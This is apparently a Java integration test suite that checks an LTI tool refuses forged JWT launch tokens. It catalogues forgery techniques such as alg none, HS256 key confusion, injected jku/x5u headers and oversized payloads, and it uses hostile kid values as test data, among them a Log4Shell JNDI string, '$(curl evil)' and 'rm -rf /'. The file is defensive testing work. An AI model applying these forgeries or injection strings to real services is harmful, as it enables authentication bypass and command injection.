package fr.sillage.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Tokens that the platform did not sign, or not as it must (LTI Security Framework 1.0 §5.1.3, RFC 7515, RFC 8725). */
class AForgedTokenIT {

    private static final String SUBJECT = "forger-of-tokens";
    private static House house;
    private static OwnPlatform platform;
    private static Rows rows;
    private static Door door;
    private static Door.Login login;

    @BeforeAll
    static void open() throws Exception {
        house = House.open();
        platform = OwnPlatform.open(house);
        rows = Rows.of(house);
        door = Door.of(house, platform);
        Awaiting.registration(door);
        Door.Login first = door.begin();
        assertThat(door.launch(first, platform.honest(first, door.target(), SUBJECT))
                        .statusCode())
                .isEqualTo(303);
        login = door.begin();
    }

    @AfterAll
    static void close() throws Exception {
        rows.close();
        platform.close();
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                by("alg none, no signature", "algorithm-refused", t -> header("none")
                        .with(new byte[0])),
                by("alg None", "algorithm-refused", t -> header("None").with(new byte[0])),
                by("alg NONE with a signature", "algorithm-refused", t -> header("NONE")
                        .rs256(own())),
                by("alg nOnE", "algorithm-refused", t -> header("nOnE").with(new byte[0])),
                by("no alg", "algorithm-refused", t -> raw("{\"kid\":\"own\"}").rs256(own())),
                by("alg a list", "algorithm-refused", t -> raw("{\"alg\":[\"RS256\"],\"kid\":\"own\"}")
                        .rs256(own())),
                by("alg rs256", "algorithm-refused", t -> header("rs256").rs256(own())),
                by("signature stripped", "token-malformed", t -> t.replaceAll("\\.[^.]*$", "")),
                by("signature empty", "signature-wrong", t -> t.replaceAll("[^.]*$", "")),
                by("one bit flipped in the signature", "signature-wrong", AForgedTokenIT::flipped),
                by("one letter changed in the payload", "signature-wrong", AForgedTokenIT::changed),
                by("HS256 with the key as PEM", "algorithm-refused", t -> header("HS256")
                        .hs256(pem())),
                by("HS256 with the key as DER", "algorithm-refused", t -> header("HS256")
                        .hs256(der())),
                by("HS256 with the JWKS", "algorithm-refused", t -> header("HS256")
                        .hs256(jwks())),
                by("HS256 with an empty key", "algorithm-refused", t -> header("HS256")
                        .hs256(new byte[0])),
                by("RS256 said, HS256 done", "signature-wrong", t -> header("RS256")
                        .hs256(pem())),
                by("a key of its own inside", "header-refused", t -> with("jwk", jwk())
                        .rs256(stranger())),
                by("jku", "header-refused", t -> with("jku", text(platform.address("/jku")))
                        .rs256(stranger())),
                by("x5u", "header-refused", t -> with("x5u", text(platform.address("/x5u")))
                        .rs256(stranger())),
                by("x5c", "header-refused", t -> with("x5c", "[\"MIIB\"]").rs256(own())),
                by("crit", "header-refused", t -> with("crit", "[\"exp\"]").rs256(own())),
                by("b64 and crit", "header-refused", t -> with("crit", "[\"b64\"],\"b64\":false")
                        .rs256(own())),
                by("no kid", "key-id-absent", t -> raw("{\"alg\":\"RS256\"}").rs256(own())),
                by("kid null", "key-id-absent", t -> kid("null").rs256(own())),
                by("kid a number", "key-id-absent", t -> kid("7").rs256(own())),
                by("kid empty", "key-id-absent", t -> kid("\"\"").rs256(own())),
                by("kid of 1 MB", "token-too-large", t -> kid(text("k".repeat(1_000_000)))
                        .rs256(own())),
                by("kid of 90 kB", "token-too-large", t -> kid(text("k".repeat(90_000)))
                        .rs256(own())),
                by("another's key", "signature-wrong", t -> header("RS256").rs256(stranger())),
                by("RS384", "algorithm-refused", t -> header("RS384").by("SHA384withRSA", own())),
                by("RS512", "algorithm-refused", t -> header("RS512").by("SHA512withRSA", own())),
                by("PS256", "algorithm-refused", t -> header("PS256").by("RSASSA-PSS", own())),
                by("RS256 said, PS256 done", "signature-wrong", t -> header("RS256")
                        .by("RSASSA-PSS", own())),
                by("RS256 said, SHA-1 done", "signature-wrong", t -> header("RS256")
                        .by("SHA1withRSA", own())),
                by("EdDSA", "algorithm-refused", t -> header("EdDSA").by("Ed25519", edwards())),
                by("five parts", "token-encrypted", t -> t + "." + Forged.encoded("tag") + "." + Forged.encoded("x")),
                by("four parts", "token-malformed", t -> t + ".x"),
                by("one part", "token-malformed", t -> "x"),
                by("nothing but dots", "token-malformed", t -> ".."),
                by("a header member twice", "token-malformed", t -> with("alg", "\"none\"")
                        .rs256(own())),
                by("a claim twice", "token-malformed", t -> payload(p -> p.replaceFirst("\\{", "{\"sub\":\"x\","))),
                by("padding", "token-malformed", t -> t.replaceFirst("\\.", "=.")),
                by("white space", "token-malformed", t -> t.replaceFirst("\\.", " .")),
                by("a line break", "token-malformed", t -> t.replaceFirst("\\.", "\r\n.")),
                by("a NUL", "token-malformed", t -> t + "\u0000"),
                by("the other base64 alphabet", "token-malformed", t -> t.replaceAll("[^.]*$", "ab+/")),
                by("bits that do not count", "token-malformed", AForgedTokenIT::uncanonical),
                by("10 000 levels", "token-malformed", t -> payload(p -> "{\"a\":" + "[".repeat(10_000))),
                by("10 000 closed levels", "token-malformed", t -> payload(AForgedTokenIT::deep)),
                by("an array", "token-malformed", t -> payload(p -> "[" + p + "]")),
                by("two objects", "token-malformed", t -> payload(p -> p + p)),
                by("no JSON", "token-malformed", t -> payload(p -> "<xml/>")),
                by("a number of 100 000 digits", "token-too-large", t -> payload(AForgedTokenIT::digits)),
                by(
                        "a token of 1 MB",
                        "token-too-large",
                        t -> payload(p -> "{\"x\":" + text("x".repeat(1_000_000)) + "}")),
                by("no token", "token-absent", t -> " "));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void refused(String what, String reason, Function<String, String> forge) throws Exception {
        String token = forge.apply(platform.honest(login, door.target(), SUBJECT));
        Watch watch = Watch.over(house, platform, rows);
        HttpResponse<String> answer = door.launch(login, token);
        watch.refused(answer, status(reason), reason, secrets(token));
    }

    /** Such a kid may be asked for, once in half a minute; nothing else may come of it. */
    @ParameterizedTest(name = "kid {0}")
    @MethodSource("names")
    void namesAKeyThatNobodyHas(String kid) throws Exception {
        String token = kid(text(kid)).rs256(own());
        Watch watch = Watch.over(house, platform, rows);
        watch.noted(door.launch(login, token), 401, "key-unknown", secrets(token));
        assertThat(platform.calls()).allMatch("/jwks"::equals);
    }

    static Stream<String> names() {
        return Stream.of(
                "../../../../dev/null",
                "' or '1'='1",
                "own; rm -rf /",
                "$(curl evil)",
                "${jndi:ldap://evil/a}",
                "OWN",
                "own\\u0000",
                "weak",
                "k".repeat(30_000));
    }

    @Test
    void ofAnotherPlatformIsWorthNothingHere() throws Exception {
        Door ecole = new Door(house.tool(), house.ent() + "/ecole", "sillage-ecole");
        Door.Login there = ecole.begin();
        Watch signedByUs = Watch.over(house, platform, rows);
        signedByUs.noted(
                ecole.launch(there, platform.honest(there, door.target(), SUBJECT)), 401, "key-unknown", SUBJECT);
        String theirs = Minted.by(house.ent(), "ecole", Map.of("sub", "101", "nonce", login.nonce()));
        Watch signedByThem = Watch.over(house, platform, rows);
        signedByThem.noted(door.launch(login, theirs), 401, "key-unknown", secrets(theirs));
        String underOurKid = Minted.by(
                house.ent(),
                "ecole",
                Map.of(
                        "sub",
                        "101",
                        "nonce",
                        login.nonce(),
                        "header",
                        Map.of("kid", "own"),
                        "claims",
                        Map.of("iss", platform.issuer())));
        Watch underOurName = Watch.over(house, platform, rows);
        underOurName.refused(door.launch(login, underOurKid), 401, "signature-wrong", secrets(underOurKid));
    }

    @Test
    void postedTwiceInOneFormIsRefused() throws Exception {
        String token = platform.honest(login, door.target(), SUBJECT);
        String form = Door.form(Map.of("state", login.state(), "id_token", token)) + "&id_token=" + token;
        Watch watch = Watch.over(house, platform, rows);
        watch.refused(door.launch(login.cookie(), form), 400, "parameter-repeated", secrets(token));
    }

    @Test
    void inTheAddressIsNotRead() throws Exception {
        String token = platform.honest(login, door.target(), SUBJECT);
        String query = Door.form(Map.of("state", login.state(), "id_token", token));
        Watch watch = Watch.over(house, platform, rows);
        watch.refused(
                door.post("/lti/launch?" + query, "", "Cookie", login.cookie()), 400, "state-absent", secrets(token));
    }

    /** Of a platform whose keys nobody fetched yet, which is the hardest case. */
    @Test
    void aThousandTimesWithUnknownKidsAsksForTheKeysOnce() throws Exception {
        try (OwnPlatform fresh = OwnPlatform.open(house)) {
            Door there = Door.of(house, fresh);
            Awaiting.registration(there);
            Door.Login begun = there.begin();
            String payload = fresh.claims(begun, there.target(), SUBJECT).toString();
            ExecutorService crowd = Executors.newFixedThreadPool(16);
            List<Callable<Integer>> launches = new ArrayList<>();
            for (int one = 0; one < 1_000; one++) {
                String header = "{\"alg\":\"RS256\",\"kid\":\"unknown-" + one + "\"}";
                String token = new Forged(header, payload).with(new byte[256]);
                launches.add(() -> there.launch(begun, token).statusCode());
            }
            for (Future<Integer> answer : crowd.invokeAll(launches))
                assertThat(answer.get()).isEqualTo(401);
            crowd.shutdown();
            assertThat(fresh.calls()).containsExactly("/jwks");
            assertThat(there.launch(begun, fresh.honest(begun, there.target(), SUBJECT))
                            .statusCode())
                    .isEqualTo(303);
        }
    }

    private static Arguments by(String what, String reason, Function<String, String> forge) {
        return arguments(what, reason, forge);
    }

    private static int status(String reason) {
        return reason.startsWith("token-") ? 400 : 401;
    }

    /** What of a token would tell: its parts, as far as they are long enough to be no accident, and whose it is. */
    private static String[] secrets(String token) {
        return Stream.concat(
                        Stream.of(SUBJECT), Arrays.stream(token.split("\\.")).filter(part -> part.length() > 30))
                .toArray(String[]::new);
    }

    private static String claims() {
        return platform.claims(login, door.target(), SUBJECT).toString();
    }

    private static Forged raw(String header) {
        return new Forged(header, claims());
    }

    private static Forged header(String algorithm) {
        return raw("{\"alg\":" + text(algorithm) + ",\"kid\":\"own\"}");
    }

    private static Forged kid(String json) {
        return raw("{\"alg\":\"RS256\",\"kid\":" + json + "}");
    }

    private static Forged with(String member, String json) {
        return raw("{\"alg\":\"RS256\",\"kid\":\"own\",\"" + member + "\":" + json + "}");
    }

    private static String payload(Function<String, String> change) {
        return new Forged(OwnPlatform.HEADER, change.apply(claims())).rs256(own());
    }

    private static String deep(String payload) {
        return payload.replaceFirst("\\{", "{\"a\":" + "[".repeat(10_000) + "]".repeat(10_000) + ",");
    }

    private static String digits(String payload) {
        return payload.replaceFirst("\\{", "{\"a\":" + "9".repeat(100_000) + ",");
    }

    private static String text(String value) {
        return "\"" + value.replace("\"", "\\\"") + "\"";
    }

    private static String flipped(String token) {
        int dot = token.lastIndexOf('.');
        byte[] signature = Base64.getUrlDecoder().decode(token.substring(dot + 1));
        signature[signature.length / 2] ^= 1;
        return token.substring(0, dot + 1)
                + Base64.getUrlEncoder().withoutPadding().encodeToString(signature);
    }

    private static String changed(String token) {
        String[] parts = token.split("\\.");
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
        return parts[0] + "." + Forged.encoded(payload.replace("Learner", "Instructor")) + "." + parts[2];
    }

    /** 256 bytes are 342 letters, of whose last only two bits count. */
    private static String uncanonical(String token) {
        char last = token.charAt(token.length() - 1);
        return token.substring(0, token.length() - 1) + (char) (last + 1);
    }

    private static java.security.PrivateKey own() {
        return platform.key().getPrivate();
    }

    private static java.security.PrivateKey stranger() {
        return Keys.rsa(2048).getPrivate();
    }

    private static java.security.PrivateKey edwards() {
        try {
            return KeyPairGenerator.getInstance("Ed25519").generateKeyPair().getPrivate();
        } catch (java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] der() {
        return platform.key().getPublic().getEncoded();
    }

    private static byte[] pem() {
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der()) + "\n-----END PUBLIC KEY-----\n";
        return pem.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] jwks() {
        return platform.jwks().getBytes(StandardCharsets.UTF_8);
    }

    private static String jwk() {
        return Keys.published("own", (java.security.interfaces.RSAPublicKey)
                        Keys.rsa(2048).getPublic())
                .toString();
    }
}
